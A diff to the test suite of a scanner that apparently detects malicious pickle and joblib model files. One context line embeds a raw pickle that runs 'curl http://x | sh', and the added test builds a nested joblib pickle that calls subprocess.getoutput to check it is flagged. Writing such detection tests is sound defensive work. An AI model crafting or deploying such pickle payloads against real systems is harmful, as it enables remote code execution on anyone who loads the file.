@@ -429,3 +429,17 @@ def test_truncated_protocol0_payload_is_still_caught():
     data = b"cposix\nsystem\n(S'curl http://x | sh'\ntR"  # no STOP
     r = scan1(data, "m.pkl")
     assert r.verdict == "malicious"
+
+
+def test_joblib_object_array_nested_pickle():
+    p = P(4).sg("joblib.numpy_pickle", "NumpyArrayWrapper").empty_tuple().newobj().empty_dict().mark()
+    p.s("subclass").sg("numpy", "ndarray").s("shape").i(1).tuple1()
+    p.s("order").s("C").s("dtype").sg("numpy", "dtype").s("O8").op(b"\x89\x88").op(b"\x87").reduce()
+    p.s("allow_mmap").op(b"\x89").op(b"u").build()
+    nested_evil = evil("subprocess", "getoutput", "id", proto=4)
+    tail = P(None).op(b"0").none().stop().bytes()
+    r = scan1(p.bytes() + nested_evil + tail, "m.joblib")
+    assert r.format == "joblib" and r.verdict == "malicious"
+    assert any("object-array pickle" in i.detail for i in r.issues)
+    benign = p.bytes() + pickle.dumps(["a", "b"], protocol=4) + tail
+    assert scan1(benign, "m.joblib").verdict == "clean"
